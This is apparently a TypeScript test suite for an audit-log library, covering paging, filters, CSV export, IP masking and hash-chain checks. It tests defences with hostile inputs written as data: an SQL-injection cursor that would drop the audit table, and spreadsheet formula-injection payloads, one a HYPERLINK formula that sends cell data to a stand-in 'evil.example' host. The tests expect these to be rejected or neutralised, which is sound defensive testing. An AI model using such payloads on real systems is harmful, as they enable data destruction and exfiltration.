import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import {
  type AuditEventInput,
  appendAuditEvents,
  exportAuditCsv,
  InvalidInputError,
  listAuditEvents,
  pageAuditEvents,
  verifyAuditChain,
} from "../src/index";
import { createTestDatabase, type TestDatabase } from "../src/testing";
import { ADMIN_AUDIT, APP_AUDIT, appendLifts } from "./fixtures";

setDefaultTimeout(30_000);

let handle: TestDatabase;
beforeAll(async () => {
  handle = await createTestDatabase();
  // 60 rows: every third one a barrier request of user-b, the rest intercom of user-a.
  const rows: AuditEventInput[] = Array.from({ length: 60 }, (_, i) => ({
    ...APP_AUDIT,
    kind: "partner.request",
    result: i % 10 === 0 ? "denied" : "pending",
    userId: i % 3 === 0 ? "user-b" : "user-a",
    partner: i % 3 === 0 ? "barrier" : "intercom",
    operation: i % 3 === 0 ? "barrier.open" : "intercom.open",
    target: i % 3 === 0 ? "gate-1" : "door-1",
  }));
  await appendAuditEvents(handle.db, rows);
});
afterAll(() => handle.close());

/** Every page from the newest to the oldest, then back again; the seqs seen each way. */
async function walk(filter: Parameters<typeof pageAuditEvents>[1]) {
  const forward: number[][] = [];
  let page = await pageAuditEvents(handle.db, filter);
  expect(page.prevCursor).toBeNull();
  forward.push(page.rows.map((row) => row.seq));
  while (page.nextCursor) {
    page = await pageAuditEvents(handle.db, { ...filter, cursor: page.nextCursor });
    forward.push(page.rows.map((row) => row.seq));
  }
  const back: number[][] = [page.rows.map((row) => row.seq)];
  while (page.prevCursor) {
    page = await pageAuditEvents(handle.db, { ...filter, cursor: page.prevCursor });
    back.unshift(page.rows.map((row) => row.seq));
  }
  return { forward, back };
}

describe("pageAuditEvents", () => {
  test("pages forward and back over the same rows, newest first, without gaps or repeats", async () => {
    const { forward, back } = await walk({ limit: 7 });
    const seqs = forward.flat();
    expect(seqs).toHaveLength(60);
    expect(new Set(seqs).size).toBe(60);
    expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
    expect(forward.map((page) => page.length)).toEqual([7, 7, 7, 7, 7, 7, 7, 7, 4]);
    expect(back).toEqual(forward);
  });

  test("each filter, alone and together, pages only its own rows", async () => {
    const cases = [
      [{ userId: "user-b" }, 20],
      [{ partner: "barrier" as const }, 20],
      [{ operation: "intercom.open" as const }, 40],
      [{ target: "gate-1" }, 20],
      [{ result: "denied" }, 6],
      [{ kind: "partner.request" as const }, 60],
      [{ kind: "consent.grant" as const }, 0],
      [{ userId: "user-a", result: "denied" }, 4],
    ] as const;
    for (const [filter, expected] of cases) {
      const { forward, back } = await walk({ ...filter, limit: 3 });
      expect({ filter, rows: forward.flat().length }).toEqual({ filter, rows: expected });
      expect(back).toEqual(forward);
    }
    const { rows } = await pageAuditEvents(handle.db, { target: "gate-1", limit: 500 });
    expect(rows.every((row) => row.userId === "user-b" && row.partner === "barrier")).toBe(true);
  });

  test("a time range takes rows at or after `from` and before `to`", async () => {
    const { rows } = await pageAuditEvents(handle.db, { limit: 1 });
    const at = new Date(rows[0]?.at ?? "");
    expect((await pageAuditEvents(handle.db, { from: at, limit: 500 })).rows).toHaveLength(60);
    expect((await pageAuditEvents(handle.db, { to: at, limit: 500 })).rows).toHaveLength(0);
    const later = new Date(at.getTime() + 1);
    expect((await pageAuditEvents(handle.db, { from: later })).rows).toHaveLength(0);
  });

  test("a made-up cursor or a filter outside the vocabulary is INVALID_INPUT", async () => {
    for (const query of [
      { cursor: "before:0" },
      { cursor: "seq > 1; drop table audit_events" },
      { kind: "nothing.here" },
      { result: "Not A Result" },
      { limit: 501 },
      { sort: "asc" },
    ]) {
      await expect(pageAuditEvents(handle.db, query as never)).rejects.toBeInstanceOf(
        InvalidInputError,
      );
    }
  });
});

describe("exportAuditCsv", () => {
  const WHOLE = { clientIp: "whole" } as const;

  test("the filtered rows as RFC 4180 CSV: every field quoted, quotes doubled", async () => {
    const database = await createTestDatabase();
    try {
      const reasons = ['says "urgent", twice', "line one\nline two", "plain", "cr\r"];
      await appendLifts(database.db, reasons);
      await appendAuditEvents(database.db, [{ ...APP_AUDIT, kind: "partner.event", result: "ok" }]);
      const { csv, rows, truncated } = await exportAuditCsv(
        database.db,
        { kind: "admin.blocks.lift" },
        ADMIN_AUDIT,
        WHOLE,
      );
      expect({ rows, truncated }).toEqual({ rows: 4, truncated: false });
      const lines = csv.split("\r\n");
      expect(lines[0]).toBe(
        '"seq","at","chain_id","chain_seq","id","kind","source_app","instance_id","client_ip",' +
          '"request_id","user_id","actor","operation","partner","purpose","target","attempt",' +
          '"result","error_code","http_status","latency_ms","call_id","reason","trace_id","prev_hash","hash"',
      );
      expect(csv.endsWith("\r\n")).toBe(true);
      expect(csv).toContain(',"says ""urgent"", twice",');
      expect(csv).toContain(',"line one\nline two",');
      expect(csv).toContain(',"cr\r",');
      expect(csv).toContain(',"plain",');
      // Numbers quoted too (spreadsheets still read them as numbers); null is the empty field.
      expect(lines[1]).toMatch(/^"\d+","\d{4}-\d\d-\d\dT[^"]+Z",/);
      expect(lines[1]).toContain(',"203.0.113.7","req_test","","adm_1","",');
      expect(csv).not.toContain("partner.event");
      const parsed = parseCsv(csv);
      expect(parsed).toHaveLength(5);
      expect(parsed.every((record) => record.length === 26)).toBe(true);
      expect(parsed.slice(1).map((record) => record[22])).toEqual([...reasons].reverse());
      const capped = await exportAuditCsv(
        database.db,
        { maxRows: 3, userId: "usr_whose", partner: "intercom" },
        ADMIN_AUDIT,
        WHOLE,
      );
      expect({ rows: capped.rows, truncated: capped.truncated }).toEqual({
        rows: 0,
        truncated: false,
      });
      const cut = await exportAuditCsv(database.db, { maxRows: 3 }, ADMIN_AUDIT, WHOLE);
      expect({ rows: cut.rows, truncated: cut.truncated }).toEqual({ rows: 3, truncated: true });
      // Each export is on the trail: who took it, about whom, whether it was cut; newest first.
      const exports = await listAuditEvents(database.db, { kind: "admin.audit.export" });
      expect(exports).toMatchObject([
        { actor: "adm_1", sourceApp: "admin", result: "truncated", userId: null, partner: null },
        { actor: "adm_1", result: "ok", userId: "usr_whose", partner: "intercom" },
        { actor: "adm_1", result: "ok", userId: null, target: null },
      ]);
      // An export's own row is not in it (the rows are read first).
      expect(csv).not.toContain("admin.audit.export");
      expect(await verifyAuditChain(database.db)).toMatchObject({ ok: true, count: 8 });
    } finally {
      await database.close();
    }
  });

  test("a cell a spreadsheet could start anywhere in a field opens as text ('-prefixed)", async () => {
    const database = await createTestDatabase();
    try {
      const reasons = [
        'ok;=HYPERLINK("x");y',
        "a,@SUM(1)",
        "\t=1",
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "+1+2",
        "-2+3",
        "line\n@cmd",
        "cr\r-1",
        'both; "=1" and ;  +2',
        "\tcmd",
        "a = b, not a formula",
        "-",
      ];
      await appendLifts(database.db, reasons);
      const { csv } = await exportAuditCsv(
        database.db,
        { kind: "admin.blocks.lift" },
        ADMIN_AUDIT,
        WHOLE,
      );
      // The exact bytes of each reason's cell.
      for (const cell of [
        `"ok;'=HYPERLINK(""x"");y"`,
        `"a,'@SUM(1)"`,
        `"\t'=1"`,
        `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`,
        `"'+1+2"`,
        `"'-2+3"`,
        `"line\n'@cmd"`,
        `"cr\r'-1"`,
        `"both;' ""=1"" and ;'  +2"`,
        `"\tcmd"`,
        `"a = b, not a formula"`,
        `"'-"`,
      ])
        expect(csv).toContain(`,${cell},`);
      // Read as RFC 4180 (comma-separated, quotes honoured): each cell is its reason with a `'`
      // at each place a formula could begin, and starts no formula.
      const parsed = parseCsv(csv).slice(1);
      expect(parsed.map((record) => record[22])).toEqual(
        [...reasons]
          .reverse()
          .map((reason) => reason.replace(/(^|[;,\t\r\n])(?=[ "]*[=+\-@])/g, "$1'")),
      );
      for (const record of parsed)
        for (const field of record) expect(field).not.toMatch(/^[=+\-@]/);
      // Read the worst way: a Russian-locale program splitting on `;`, or one splitting on tabs,
      // commas or line breaks, with the quotes ignored — no piece starts a formula either.
      const pieces = csv.split(/[;,\t\r\n]/).map((piece) => piece.replace(/^[ "]+/, ""));
      expect(pieces.filter((piece) => /^[=+\-@]/.test(piece))).toEqual([]);
    } finally {
      await database.close();
    }
  });

  test("a viewer's export shows each client address cut to its network", async () => {
    const database = await createTestDatabase();
    try {
      await appendAuditEvents(database.db, [
        { ...APP_AUDIT, kind: "partner.event", result: "ok" },
        {
          ...APP_AUDIT,
          clientIp: "2001:db8:85a3::8a2e:370:7334",
          kind: "partner.event",
          result: "ok",
        },
        { ...APP_AUDIT, clientIp: null, kind: "partner.event", result: "ok" },
      ]);
      const filter = { kind: "partner.event" } as const;
      const viewer = await exportAuditCsv(database.db, filter, ADMIN_AUDIT, {
        clientIp: "network",
      });
      expect(parseCsv(viewer.csv).map((record) => record[8])).toEqual([
        "client_ip",
        "",
        "2001:db8:85a3:…",
        "203.0.x.x",
      ]);
      expect(viewer.csv).not.toContain("203.0.113.7");
      const operator = await exportAuditCsv(database.db, filter, ADMIN_AUDIT, WHOLE);
      expect(parseCsv(operator.csv).map((record) => record[8])).toEqual([
        "client_ip",
        "",
        "2001:db8:85a3::8a2e:370:7334",
        "203.0.113.7",
      ]);
      // Either way the export is audited, and the chain holds.
      expect(await listAuditEvents(database.db, { kind: "admin.audit.export" })).toHaveLength(2);
      expect(await verifyAuditChain(database.db)).toMatchObject({ ok: true, count: 5 });
    } finally {
      await database.close();
    }
  });
});

/** A strict RFC 4180 reader, to check the export reads back field for field. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error("unterminated quoted field");
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") field += text[i++];
    }
    record.push(field);
    if (text[i] === ",") i++;
    else if (text.startsWith("\r\n", i)) {
      i += 2;
      records.push(record);
      record = [];
    } else throw new Error(`unexpected character at ${i}`);
  }
  return records;
}
